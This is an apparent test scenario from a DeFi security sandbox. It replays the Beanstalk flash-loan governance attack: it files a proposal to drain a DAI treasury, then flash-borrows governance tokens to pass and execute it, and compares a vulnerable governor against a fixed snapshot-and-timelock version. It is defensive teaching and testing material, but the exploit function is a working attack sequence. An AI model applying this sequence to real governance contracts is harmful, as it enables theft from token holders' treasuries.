import { ZeroAddress, id } from "ethers";

import {
  EmergencyCommitGovernor__factory,
  FlashLender__factory,
  FlashVoteAttacker__factory,
  GovernanceToken__factory,
  SandboxGovernor__factory,
  SandboxTimelock__factory,
  type FlashLender,
  type GovernanceToken,
  type SandboxGovernor,
  type MockERC20,
} from "../../typechain-types/index.js";
import { formatAmount } from "./format.js";
import { proposalStateName } from "../pure/governor.js";
import { measureTracked } from "./measure.js";
import { commonChecks } from "./run.js";
import { attempt, send } from "./steps.js";
import type { Scenario, World } from "./types.js";

const ONE = 10n ** 18n;
const DAY = 86_400n;

/** The governance token's supply and who holds it: a lending desk holds three quarters. */
export const GOV_SUPPLY = 2_000_000n * ONE;
export const GOV_LENDER_LIQUIDITY = 1_500_000n * ONE;
export const GOV_HOLDERS = {
  alice: 200_000n * ONE,
  bob: 150_000n * ONE,
  carol: 150_000n * ONE,
} as const;
/** The DAI the governance treasury holds. */
export const GOV_TREASURY = 500_000n * ONE;
/** Governor settings on both sides, the sandbox's: blocks, blocks, votes, percent. */
export const GOV_SETTINGS = { votingDelay: 1n, votingPeriod: 50n, threshold: 0n, quorum: 4n };
export const GOV_TIMELOCK_DELAY = 3_600n;
/** The proposal the attacker files a day before the attack, as Beanstalk's attacker did. */
export const GOV_DESCRIPTION = "Fund the ecosystem grants multisig";

export interface GovernanceWorld extends World {
  /** The governor on either side, through the OpenZeppelin Governor interface both share. */
  governor: SandboxGovernor;
  token: GovernanceToken;
  dai: MockERC20;
  /** The lending desk of governance tokens (a core FlashLender, no fee). */
  lender: FlashLender;
  /** Where the treasury sits and what executes proposals: the governor, or the timelock. */
  executor: string;
  /** The weight the governor counted for the flash-loaned vote (read in settle). */
  flashVoteWeight: bigint | null;
  proposal: { targets: string[]; values: bigint[]; calldatas: string[]; descriptionHash: string };
}

/** Votes counted at the current balance, and a supermajority executes in the same transaction. */
export const flashLoanGovernance: Scenario<GovernanceWorld> = {
  name: "flash-loan-governance",
  title: "Flash-loan governance: borrowed votes pass a proposal that drains the treasury",
  incident:
    "Beanstalk, 2022-04-17: $182M; a ~$1B flash loan bought >67% of the votes and emergencyCommit executed BIP-18 in the same transaction (also Damn Vulnerable DeFi's Selfie)",
  fix: "the core SandboxGovernor (votes at a snapshot one block after the proposal) + SandboxTimelock",

  async setup(env, side) {
    const { actors, sandbox, log } = env;
    const { deployer } = actors;
    const dai = sandbox.dai;
    const token = await new GovernanceToken__factory(deployer).deploy(deployer.address);
    await token.waitForDeployment();
    await send(token.grantRole(await token.MINTER_ROLE(), deployer.address));
    await send(token.mint(deployer.address, GOV_SUPPLY));
    const tokenAddress = await token.getAddress();
    const lender = await new FlashLender__factory(deployer).deploy(
      deployer.address,
      actors.treasury.address,
      0n,
    );
    await lender.waitForDeployment();
    await send(lender.setTokenSupport(tokenAddress, true));
    await send(token.transfer(await lender.getAddress(), GOV_LENDER_LIQUIDITY));
    for (const name of ["alice", "bob", "carol"] as const) {
      await send(token.transfer(actors[name].address, GOV_HOLDERS[name]));
      await send(token.connect(actors[name]).delegate(actors[name].address));
    }
    log(
      `  SGOV: ${formatAmount(GOV_SUPPLY, 18, "SGOV")}; a lending desk holds ${formatAmount(GOV_LENDER_LIQUIDITY, 18, "SGOV")}, alice, bob and carol the rest`,
    );

    const s = GOV_SETTINGS;
    let governorAddress: string;
    let executor: string;
    let contract: string;
    const interfaces = [
      EmergencyCommitGovernor__factory.createInterface(),
      SandboxGovernor__factory.createInterface(),
      lender.interface,
      FlashVoteAttacker__factory.createInterface(),
    ];
    if (side === "vulnerable") {
      const governor = await new EmergencyCommitGovernor__factory(deployer).deploy(
        tokenAddress,
        s.votingDelay,
        s.votingPeriod,
        s.threshold,
        s.quorum,
      );
      await governor.waitForDeployment();
      governorAddress = await governor.getAddress();
      executor = governorAddress;
      contract = "EmergencyCommitGovernor";
    } else {
      const timelock = await new SandboxTimelock__factory(deployer).deploy(
        GOV_TIMELOCK_DELAY,
        [],
        [ZeroAddress],
        deployer.address,
      );
      await timelock.waitForDeployment();
      executor = await timelock.getAddress();
      const governor = await new SandboxGovernor__factory(deployer).deploy(
        tokenAddress,
        executor,
        s.votingDelay,
        s.votingPeriod,
        s.threshold,
        s.quorum,
      );
      await governor.waitForDeployment();
      governorAddress = await governor.getAddress();
      await send(timelock.grantRole(await timelock.PROPOSER_ROLE(), governorAddress));
      await send(timelock.grantRole(await timelock.CANCELLER_ROLE(), governorAddress));
      await send(timelock.renounceRole(await timelock.DEFAULT_ADMIN_ROLE(), deployer.address));
      contract = "SandboxGovernor + SandboxTimelock (core)";
    }
    await send(dai.faucet(executor, GOV_TREASURY));
    log(`  the treasury (${contract}) holds ${formatAmount(GOV_TREASURY, 18, "DAI")}`);

    return {
      side,
      env,
      attacker: actors.attacker,
      contract,
      governor: SandboxGovernor__factory.connect(governorAddress, deployer),
      token,
      dai,
      lender,
      executor,
      flashVoteWeight: null,
      proposal: { targets: [], values: [], calldatas: [], descriptionHash: id(GOV_DESCRIPTION) },
      tracked: {
        asset: { kind: "erc20", symbol: "DAI", decimals: 18, token: dai },
        attacker: [actors.attacker.address],
        // The treasury is the token holders' money: its loss is theirs.
        victims: [executor],
        protocol: executor,
        victimsClaims: 0n,
        dust: 0n,
      },
      errorInterfaces: interfaces,
    };
  },

  async exploit(world) {
    const { attacker, governor, dai, lender, token, executor, env } = world;
    const loot = await dai.balanceOf(executor);
    const proposal = {
      targets: [await dai.getAddress()],
      values: [0n],
      calldatas: [dai.interface.encodeFunctionData("transfer", [attacker.address, loot])],
      descriptionHash: id(GOV_DESCRIPTION),
    };
    world.proposal = proposal;
    env.log(
      `  attacker proposes "${GOV_DESCRIPTION}": the treasury's ${formatAmount(loot, 18, "DAI")} to the attacker`,
    );
    await send(
      governor
        .connect(attacker)
        .propose(proposal.targets, proposal.values, proposal.calldatas, GOV_DESCRIPTION),
    );
    await env.networkHelpers.time.increase(DAY);
    const contract = await new FlashVoteAttacker__factory(attacker).deploy(
      await lender.getAddress(),
      await governor.getAddress(),
      await token.getAddress(),
    );
    await contract.waitForDeployment();
    world.tracked.attacker.push(await contract.getAddress());
    env.log(
      `  a day later: flash-borrow ${formatAmount(await lender.maxFlashLoan(await token.getAddress()), 18, "SGOV")}, vote For, execute if passed, repay — one transaction`,
    );
    await send(
      contract.attack(
        proposal.targets,
        proposal.values,
        proposal.calldatas,
        proposal.descriptionHash,
      ),
    );
    world.flashVoteWeight = await contract.lastVoteWeight();
    env.log(
      `  the governor counted the borrowed vote as ${formatAmount(world.flashVoteWeight, 18, "SGOV")}`,
    );
  },

  async settle(world) {
    const { governor, proposal, attacker, env } = world;
    const { actors, networkHelpers, log } = env;
    if (proposal.targets.length === 0) return;
    const proposalId = await governor.getProposalId(
      proposal.targets,
      proposal.values,
      proposal.calldatas,
      proposal.descriptionHash,
    );
    log(
      `  proposal state after the attack: ${proposalStateName(await governor.state(proposalId))}`,
    );
    if ((await governor.state(proposalId)) === 1n) {
      for (const name of ["alice", "bob", "carol"] as const) {
        await attempt(world, `${name} votes Against`, () =>
          governor.connect(actors[name]).castVote(proposalId, 0),
        );
      }
      await networkHelpers.mine(GOV_SETTINGS.votingPeriod + 1n);
      log(`  voting closes: ${proposalStateName(await governor.state(proposalId))}`);
      await attempt(world, "the attacker tries to execute the proposal", () =>
        governor
          .connect(attacker)
          .execute(proposal.targets, proposal.values, proposal.calldatas, proposal.descriptionHash),
      );
    }
  },

  measure(world, sinceBlock) {
    return measureTracked(world.env.ethers, world.tracked, sinceBlock);
  },

  check(result, world) {
    const weight = formatAmount(world.flashVoteWeight ?? 0n, 18, "SGOV");
    const checks = commonChecks(result, world);
    if (world.side === "vulnerable") {
      return [
        ...checks,
        {
          ok: (world.flashVoteWeight ?? 0n) >= (GOV_SUPPLY * 2n) / 3n,
          message: `the borrowed tokens count as two thirds of the supply or more (${weight})`,
        },
      ];
    }
    return [
      ...checks,
      {
        ok:
          world.flashVoteWeight === 0n ||
          (world.flashVoteWeight === null && result.revert !== null),
        message: `the borrowed tokens count as no votes at the snapshot (${weight})`,
      },
    ];
  },
};
